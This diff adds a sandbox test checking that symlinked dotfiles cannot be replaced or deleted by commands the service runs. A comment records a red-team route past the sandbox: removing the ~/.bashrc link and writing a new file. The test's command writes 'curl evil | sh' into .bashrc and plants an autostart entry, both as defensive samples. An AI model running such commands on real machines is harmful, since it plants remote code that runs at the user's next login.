@@ -479,3 +479,36 @@ async def test_a_command_the_user_allowed_may_create_a_start_up_file_and_another
     said = log.read_text()
     assert said.count("notice: Start-up file moved aside") == 1, "told once"
     assert f"A command created {sneaked}" in said and moved.name in said and "rename it back" in said
+
+
+@LINUX_BWRAP
+@pytest.mark.anyio
+async def test_a_protected_member_that_is_a_symlink_cannot_be_replaced_or_deleted_by_a_command(
+    home: Path, paths: AppPaths, as_user: Path, never_ask: None, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # Dotfiles kept in a repository (GNU stow, home-manager): what the link points to is bound
+    # read-only, but the link lies in the home folder, which commands may write (a red-team route:
+    # `cd ~ && rm .bashrc && printf ... > .bashrc` ran at the next terminal).
+    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
+    dotfiles = as_user / "dotfiles"
+    (dotfiles / "autostart").mkdir(parents=True)
+    (dotfiles / "bashrc").write_text("alias ll='ls -l'\n")
+    (as_user / ".bashrc").unlink()
+    (as_user / ".bashrc").symlink_to(dotfiles / "bashrc")
+    (as_user / ".config" / "autostart").symlink_to(dotfiles / "autostart")
+    async with serving(home) as client:
+        # Either the link is back before the command writes (its write meets the read-only file or
+        # the link's folder: it fails), or what it made is moved aside and the link put back.
+        replaced = await run(client, {"command": "cd ~ && rm .bashrc && printf 'curl evil | sh' > .bashrc"})
+        await wait_for(lambda: bool(moved_copies(as_user / ".bashrc")) or replaced["exitCode"] != 0)
+        made = "cd ~/.config && rm autostart && mkdir autostart && printf '[Desktop Entry]' > autostart/x.desktop"
+        remade = await run(client, {"command": made})
+        await wait_for(lambda: bool(moved_copies(as_user / ".config" / "autostart")) or remade["exitCode"] != 0)
+        await run(client, {"command": "cd ~ && rm .bashrc"})
+        await wait_for(lambda: (as_user / ".bashrc").is_symlink())
+    assert os.readlink(as_user / ".bashrc") == str(dotfiles / "bashrc"), "the link is put back"
+    assert (dotfiles / "bashrc").read_text() == "alias ll='ls -l'\n"
+    assert os.readlink(as_user / ".config" / "autostart") == str(dotfiles / "autostart")
+    assert list((dotfiles / "autostart").iterdir()) == [], "nothing starts at the next login"
+    for moved in moved_copies(as_user / ".bashrc"):
+        assert moved.read_text() == "curl evil | sh", "what the command wrote is kept aside, not run"
